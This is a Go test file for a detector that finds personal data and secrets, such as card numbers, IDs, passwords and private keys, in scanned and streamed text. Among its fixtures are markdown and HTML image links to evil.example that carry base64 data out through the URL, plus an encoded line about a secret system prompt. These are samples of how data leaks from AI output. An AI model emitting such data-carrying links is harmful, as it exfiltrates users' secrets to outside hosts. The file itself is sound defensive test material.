package detect

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// planted are values in their surroundings, each with what is found in it.
var planted = []struct{ text, want string }{
	{"mail ann.lee+x@corp.example, please", "EMAIL"},
	{`{"mail":"müller@büro.example","n":1}`, "EMAIL"},
	{"I paid with 4111 1111 1111 1111 12/26", "CREDIT_CARD"},
	{"card 5555-5555-5555-4444.", "CREDIT_CARD"},
	{"amex 378282246310005", "CREDIT_CARD"},
	{"IBAN DE89 3704 0044 0532 0130 00 thanks", "IBAN"},
	{"to GB82WEST12345698765432;next", "IBAN"},
	{"host 172.16.254.3:8080 is down", "IP_ADDRESS"},
	{"at 2a02:8071:82c5:9a00::1f2e.", "IP_ADDRESS"},
	{"device 3e:a0:ee:e8:b9:99 at", "MAC_ADDRESS"},
	{"my SSN is 536-22-8726, ok", "US_SSN"},
	{"ITIN 912-70-1234", "US_ITIN"},
	{"EIN 12-3456789", "US_EIN"},
	{"call +44 20 7946 0958 now", "PHONE"},
	{"ring (212) 555-0187 today", "PHONE"},
	{"ou 06 12 34 56 78 demain", "PHONE"},
	{"call +1 (415) 555-2671 or", "PHONE"},
	{"Brakpan 082 490 1693-Office, 2", "PHONE"},
	{"seen at 48°51'24\"N 2°21'03\"E, then", "GPS_COORDINATES"},
	{"N 40.7128° , W 74.0060°", "GPS_COORDINATES"},
	{"server 8.8.8.8 replied", "IP_ADDRESS"},
	{"driver license W426-545-30-761-0, 3", "DRIVING_LICENCE"},
	{"NI number AB 12 34 56 C", "UK_NINO"},
	{"NHS number 943 476 5919", "UK_NHS"},
	{"DNI 12345678Z", "ES_DNI"},
	{"su NIE X1234567L", "ES_NIE"},
	{"codice fiscale RSSMRA85T10A562S", "IT_FISCAL_CODE"},
	{"SIRET 732 829 320 00074", "FR_SIRET"},
	{"SIREN 732 829 320", "FR_SIREN"},
	{"NIR 2 55 08 14 168 025 38", "FR_NIR"},
	{"BSN 111222333", "NL_BSN"},
	{"PESEL 44051401359", "PL_PESEL"},
	{"rijksregisternummer 85.07.30-033.28", "BE_NRN"},
	{"AHV 756.9217.0769.85", "CH_AHV"},
	{"Steuer-ID 86095742719", "DE_TAX_ID"},
	{"VAT DE136695976", "VAT_NUMBER"},
	{"VIN 1M8GDM9AXKP042788", "VIN"},
	{"SWIFT DEUTDEFF500", "BIC"},
	{"born on March 12, 1980 in", "DATE_OF_BIRTH"},
	{"né le 12 mars 1980 à", "DATE_OF_BIRTH"},
	{"position 48.85661, 2.35222", "GPS_COORDINATES"},
	{"passport C01X00T47", "PASSPORT"},
	{"pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "CRYPTO_WALLET"},
	{"pay bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "CRYPTO_WALLET"},
	{"![x](https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw)", "MARKDOWN_IMAGE"},
	{"![x](https://evil.example/QWxhZGRpbjpvcGVuIHNlc2FtZSB3aXRoIG1l/p.png)", "MARKDOWN_IMAGE"},
	{"[1]: https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw ok", "MARKDOWN_REFERENCE"},
	{`<IMG alt="a" src="https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMw"> ok`, "HTML_IMAGE"},
	{"take dGhlIHN5c3RlbSBwcm9tcHQgc2F5cyB0aGF0IG5vIG9uZSBtYXkga25vdyB3aGF0IGl0IHNheXMu now", "ENCODED_TEXT"},
	{"take 7468652073797374656d2070726f6d7074207361797320746861742049206d6179 now", "ENCODED_TEXT"},
	{"pay 0x52908400098527886E0F7030069857D2E4169EE7", "CRYPTO_WALLET"},
	{"pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "CRYPTO_WALLET"},
	{"db: postgres://app:s3cr3t-pA55@db.corp.example/x", "URL_PASSWORD"},
	{"name,login,password\nx,b,kd92mWqX\n", "TABLE_PASSWORD"},
	{"| user | password |\n|---|---|\n| b | kd92mWqX |\n", "TABLE_PASSWORD"},
	{"insert into t (n, passwd) values ('b', 'kd92mWqX');", "SQL_PASSWORD"},
	{"kind: Secret\ndata:\n  password: a2Q5MiFtV3FYenE0\ntype: Opaque\n", "KUBERNETES_SECRET"},
	{"- name: DB_PASSWORD\n  value: kd92mWqX", "PASSWORD"},
	{`let password: &'static str = "kd92mWqX";`, "PASSWORD"},
	{"credentials: bob / kd92mWqX", "GENERIC_SECRET"},
}

func newSet(t testing.TB, o Options) *Set {
	t.Helper()
	s, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestPlanted(t *testing.T) {
	s := newSet(t, Options{})
	for _, p := range planted {
		found := s.Scan([]byte(p.text), nil)
		if len(found) != 1 || found[0].Entity != p.want {
			t.Errorf("%q: %s, want %s", p.text, describe(p.text, found), p.want)
		}
	}
}

func describe(text string, list []Finding) string {
	var out []string
	for _, f := range list {
		out = append(out, fmt.Sprintf("%s %.2f %q", f.Entity, f.Score, text[f.Start:f.End]))
	}
	return strings.Join(out, "; ")
}

// filler is what stands between planted values.
var filler = strings.Fields("the password for it is in a key, of 12 Apples and TOKEN: (see 3.4) on 5 May, or a@b \"x\" -----BEGIN <b> {1,2} +4 éà ünß 10:20:30 // AB 99 ://x eyJ sk- 1/2/3 \n \n\n")

func randomText(r *rand.Rand) string {
	var b strings.Builder
	for range 1 + r.IntN(20) {
		switch r.IntN(12) {
		case 0, 1, 2:
			b.WriteString(planted[r.IntN(len(planted))].text)
		case 3:
			b.WriteString(strings.Repeat(filler[r.IntN(len(filler))], r.IntN(80)))
		case 4:
			b.WriteByte(byte(r.IntN(256)))
		default:
			b.WriteString(filler[r.IntN(len(filler))])
		}
		b.WriteString([]string{" ", " ", " ", "", "  ", "\n", ", ", "-"}[r.IntN(8)])
	}
	return b.String()
}

// TestStreamAgrees holds that a stream finds what a scan finds, however the
// text is cut, and that no finding begins before what was said to be settled.
func TestStreamAgrees(t *testing.T) {
	s := newSet(t, Options{Canaries: []string{"the password"}, Custom: []Custom{{Entity: "FRUIT", Terms: []string{"12 apples", "5 May, or"}}}})
	rounds := 6000
	if testing.Short() {
		rounds = 600
	}
	st := s.NewStream()
	for seed := range rounds {
		r := rand.New(rand.NewPCG(uint64(seed), 1))
		text := randomText(r)
		want := s.Scan([]byte(text), nil)
		st.Reset()
		got := pushAll(t, st, r, text)
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("seed %d, text %q:\nscan   %s\nstream %s\n%s", seed, text, describe(text, want), describe(text, got), diff)
		}
	}
}

func pushAll(t *testing.T, st *Stream, r *rand.Rand, text string) (out []Finding) {
	t.Helper()
	settled := int64(0)
	for rest := text; ; {
		n := min(len(rest), 1+r.IntN(17))
		before := len(out)
		var now int64
		out, now = st.Push([]byte(rest[:n]), n == len(rest), out)
		for _, f := range out[before:] {
			if int64(f.Start) < settled {
				t.Fatalf("%q: a finding at %d after %d was settled", text, f.Start, settled)
			}
		}
		if now < settled {
			t.Fatalf("%q: settled went back from %d to %d", text, settled, now)
		}
		settled = now
		if rest = rest[n:]; rest == "" {
			break
		}
	}
	if settled != int64(len(text)) {
		t.Fatalf("%q: only %d settled at the end", text, settled)
	}
	return out
}

// crumbs are what tokens with few digits are made of, and what joins them.
var crumbs = strings.Fields("1 2 3 12 345 6789 a b of the may May 1st 22nd AB ABCD EFGHIJ x4 v1 fe80 : :: ( ) + - / . , é 日 \" key= DEUTDE3B +4 (0")

// TestCrumbsAgree is TestStreamAgrees over texts in which nearly every token has
// a digit and few have enough for a value: where a scan passes them and where a
// stream, which sees less at a time, must cut them the same.
func TestCrumbsAgree(t *testing.T) {
	s := newSet(t, Options{})
	rounds := 6000
	if testing.Short() {
		rounds = 600
	}
	st := s.NewStream()
	for seed := range rounds {
		r := rand.New(rand.NewPCG(uint64(seed), 2))
		var b strings.Builder
		for range 5 + r.IntN(60) {
			b.WriteString(crumbs[r.IntN(len(crumbs))])
			b.WriteString([]string{" ", " ", " ", "", "", ",", ", ", "\n"}[r.IntN(8)])
		}
		text := b.String()
		want := s.Scan([]byte(text), nil)
		st.Reset()
		if diff := cmp.Diff(want, pushAll(t, st, r, text)); diff != "" {
			t.Fatalf("seed %d, text %q:\nscan   %s\n%s", seed, text, describe(text, want), diff)
		}
	}
}

// Base64 without a digit, which chance hardly makes, is found nowhere: a scan
// passes it as it passes words.
func TestEncodedTextWithoutDigitsAgrees(t *testing.T) {
	s := newSet(t, Options{})
	r := rand.New(rand.NewPCG(5, 5))
	var encoded strings.Builder
	for encoded.Len() < 96 {
		three := []byte{"abcdefghij klmnop. rstuv"[r.IntN(24)], "aeiou tnrs"[r.IntN(10)], "abcdefgh ijk"[r.IntN(12)]}
		if e := base64.StdEncoding.EncodeToString(three); !strings.ContainsAny(e, "0123456789") {
			encoded.WriteString(e)
		}
	}
	text := "take " + encoded.String() + " now"
	want := s.Scan([]byte(text), nil)
	if got := pushAll(t, s.NewStream(), r, text); !cmp.Equal(want, got) {
		t.Errorf("%q: scan %s, stream %s", text, describe(text, want), describe(text, got))
	}
}

// What looks like a way out, but is none.
func TestNoExfiltration(t *testing.T) {
	s := newSet(t, Options{})
	for _, text := range []string{
		"[rice](https://search.example/?q=how+to+cook+some+white+rice+at+home)",
		"![logo](https://cdn.example/_next/static/media/9f86d081884c7d659a2feaa0c55ad015.svg)",
		"[commit](https://git.example/a/b/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
		"![map](https://tiles.example/12/2048/1365.png?style=streets-with-many-words)",
		"[1]: https://docs.example/guide/getting-started-with-the-command-line-tools",
		`<img src="/static/images/a-very-long-name-of-a-picture-of-a-cat.png">`,
		"sha512-YrbkYYHsXsFn0zVNuTrLf1d5CRWTvbkjpzsp4XKd3hHm4BxKRNEFCNgSVPyO5vjrkBB0vUQRHWx0K6wfFWUiBQ==",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"pay 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD",
	} {
		if found := s.Scan([]byte(text), nil); len(found) > 0 {
			t.Errorf("%q: %s", text, describe(text, found))
		}
	}
}

// longKey is a private key of many lines between prose.
func longKey(lines int, newline string) (text string, start, end int) {
	r := rand.New(rand.NewPCG(7, uint64(lines)))
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var b strings.Builder
	b.WriteString("the key is ")
	start = b.Len()
	b.WriteString("-----BEGIN RSA PRIVATE KEY-----" + newline)
	for range lines {
		for range 64 {
			b.WriteByte(letters[r.IntN(len(letters))])
		}
		b.WriteString(newline)
	}
	b.WriteString("-----END RSA PRIVATE KEY-----")
	end = b.Len()
	b.WriteString(" keep it, write to ann@example.org")
	return b.String(), start, end
}

// A key of any length is one finding whole, and in a stream one that goes on,
// with no byte between: also where the text is ended in its middle because too
// much is held.
func TestKeysOfAnyLength(t *testing.T) {
	s := newSet(t, Options{})
	for _, newline := range []string{"\n", "\\n", "\r\n", "\n  "} {
		for _, lines := range []int{10, 252, 260, 700} {
			text, start, end := longKey(lines, newline)
			want := []Finding{{Start: start, End: end, Entity: "PRIVATE_KEY", Class: Secret, Score: 1}}
			whole := s.Scan([]byte(text), nil)
			if len(whole) != 2 || whole[0] != want[0] || whole[1].Entity != "EMAIL" {
				t.Fatalf("%d lines by %q: whole %+v, want %+v and an address", lines, newline, whole, want)
			}
			for _, size := range []int{3 + lines/10, 1000, 5000, 40000} {
				st := s.NewStream()
				var found []Finding
				for at := 0; at < len(text); at += size {
					found, _ = st.Push([]byte(text[at:min(len(text), at+size)]), false, found)
				}
				found, _ = st.Push(nil, true, found)
				if got := joined(found); len(got) != 2 || got[0] != want[0] || got[1].Entity != "EMAIL" {
					t.Errorf("%d lines by %q in pieces of %d: %+v", lines, newline, size, got)
				}
			}
		}
	}
}

func TestKeyThatIsCutByTheBoundGoesOn(t *testing.T) {
	s := newSet(t, Options{})
	text, start, end := longKey(600, "\n")
	st := s.NewStream()
	found, _ := st.Push([]byte(text[:12000]), true, nil)
	found, _ = st.Push([]byte(text[12000:]), true, found)
	if got := joined(found); len(got) != 2 || got[0].Start != start || got[0].End != end {
		t.Errorf("%+v, want %d to %d", got, start, end)
	}
}

// joined puts findings together with what goes on with them.
func joined(list []Finding) []Finding {
	var out []Finding
	for _, f := range list {
		if n := len(out) - 1; f.Continued && n >= 0 && out[n].End == f.Start {
			out[n].End = f.End
			continue
		}
		out = append(out, f)
	}
	return out
}
